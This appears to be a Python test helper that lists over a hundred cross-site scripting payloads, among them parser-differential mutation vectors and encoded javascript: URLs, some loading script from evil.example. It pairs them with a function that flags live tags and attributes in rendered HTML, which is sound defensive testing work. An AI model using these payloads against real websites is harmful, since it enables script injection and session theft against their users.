"""Texts that run something where they are shown without care, and the look at what came out."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

from lxml import html as lxml_html

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('1')\">",
    "<img src=`x`onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<img srcset='javascript:alert(1) 1x'>",
    "<img data-src='javascript:alert(1)'>",
    "<img src=x:x onerror=alert&lpar;1&rpar;>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://x.example/' onclick='alert(1)' target='_top' ping='//evil.example'>x</a>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(2)'>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<audio src=javascript:alert(1) autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{xss:expression(alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:/a/-alert(1)//'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "<p>fine</p><p onmouseover=alert(1)>x</p>",
    "<table background=javascript:alert(1)><td background='javascript:alert(1)'>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1) contenteditable tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<custom-element onconnected=alert(1)><slot onslotchange=alert(1)></slot></custom-element>",
    # What one parser reads as text the next one reads as markup.
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea><img src=x onerror=alert(1)>'>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,&lt;svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x</text></a></svg>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>",
    "<a href='&#x6A&#x61vascript&#58alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='intent://x#Intent;scheme=javascript;end'>x</a>",
    "<picture><source srcset='/a.png 1x, javascript:alert(1) 2x'><img src=/a.png></picture>",
    "<img src='data:image/svg+xml,&lt;svg onload=alert(1)>'>",
    "<div style='background-image:\\75rl(javascript:alert(1))'>x</div>",
    "<a xml:base='javascript:' href='alert(1)'>x</a>",
    "<img src=x style=x:x onload\x0c=alert(1)>",
    "<p \x0b onclick=alert(1)>x</p>",
    "<a href=https://x.example/ onclick/=alert(1)>x</a>",
]

DEAD = frozenset(
    "script style iframe frame frameset object embed applet svg math link meta base form input button select textarea keygen template "  # noqa: SIM905
    "marquee xmp plaintext noembed noscript isindex title body html head".split()
)
_OURS = frozenset({"html", "head", "body", "title", "meta", "link", "noscript"})
_ADDRESS = frozenset(
    {"href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "cite", "ping", "srcset", "longdesc", "lowsrc"}
)
_SAFE = re.compile(r"(?:https?://|mailto:|#|/(?!/)|$)", re.I)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def _elements(markup: str) -> Iterator[tuple[str, list[tuple[str, str]]]]:
    """As two parsers see them that have nothing in common."""
    tags = _Tags()
    tags.feed(markup)
    tags.close()
    yield from ((tag, [(name, value or "") for name, value in attributes]) for tag, attributes in tags.found)
    for element in lxml_html.fragments_fromstring(f"<div>{markup}</div>"):
        if not isinstance(element, str):
            yield from ((each.tag, list(each.attrib.items())) for each in element.iter() if isinstance(each.tag, str))


def live(markup: str, *, page: bool = False) -> list[str]:
    """What could run, load or frame something in a piece of HTML; in a whole `page` of ours, what every page of ours has is allowed."""
    wrong = []
    for tag, attributes in _elements(markup):
        if tag in DEAD and not (page and tag in _OURS):
            wrong.append(f"<{tag}>")
        for name, value in attributes:
            told = re.sub(r"[\x00-\x20]", "", value)
            if name.startswith("on") or name in ("style", "srcdoc") or (name in _ADDRESS and not _SAFE.match(told)):
                wrong.append(f"<{tag} {name}={value!r}>")
    return wrong
